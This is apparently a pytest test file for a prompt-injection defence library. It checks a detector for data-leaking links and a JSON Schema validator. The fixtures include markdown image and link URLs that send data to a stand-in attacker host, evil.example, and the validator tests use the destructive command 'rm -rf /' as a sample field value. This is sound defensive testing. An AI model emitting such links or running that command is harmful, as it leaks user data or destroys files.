"""Output checks: exfiltration links and the JSON Schema subset."""

from __future__ import annotations

import pytest

from tutela.injection.output import exfiltrating_links, validate


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![logo](https://evil.example/pixel.png?d=secret-data)", "image"),
        ('<img src="https://evil.example/x?q=1">', "image"),
        ("[click](https://evil.example/c?u=jane)", "link"),
        ("see https://evil.example/" + "a" * 40, "link"),
    ],
)
def test_data_carrying_urls_to_other_domains_are_found(text: str, kind: str) -> None:
    (hit,) = exfiltrating_links(text, ["example.com"])
    assert hit.kind == kind and hit.host == "evil.example"


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://docs.example.com/chart.png?v=2)",  # allowed domain (subdomain)
        "![chart](https://cdn.other.org/chart.png)",  # no data in the URL
        "read https://python.org/downloads/ for details",
        "plain text with no links",
    ],
)
def test_allowed_or_data_free_urls_pass(text: str) -> None:
    assert list(exfiltrating_links(text, ["example.com"])) == []


SCHEMA = {
    "type": "object",
    "properties": {
        "order_id": {"type": "string", "pattern": "^ORD-[0-9]+$"},
        "quantity": {"type": "integer", "minimum": 1, "maximum": 10},
        "tags": {"type": "array", "items": {"type": "string"}, "maxItems": 2},
    },
    "required": ["order_id"],
    "additionalProperties": False,
}


def test_valid_input_has_no_problems() -> None:
    assert validate({"order_id": "ORD-12", "quantity": 2, "tags": ["a"]}, SCHEMA) == []


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ({}, "/: required order_id"),
        ({"order_id": "rm -rf /"}, "/order_id: pattern"),
        ({"order_id": "ORD-1", "quantity": 11}, "/quantity: maximum"),
        ({"order_id": "ORD-1", "quantity": True}, "/quantity: type"),
        ({"order_id": "ORD-1", "url": "https://evil"}, "/url: additionalProperties"),
        ({"order_id": "ORD-1", "tags": ["a", 2]}, "/tags/1: type"),
        ({"order_id": "ORD-1", "tags": ["a", "b", "c"]}, "/tags: maxItems"),
        ([], "/: type"),
    ],
)
def test_problems_name_the_place_and_keyword(value: object, problem: str) -> None:
    assert problem in validate(value, SCHEMA)
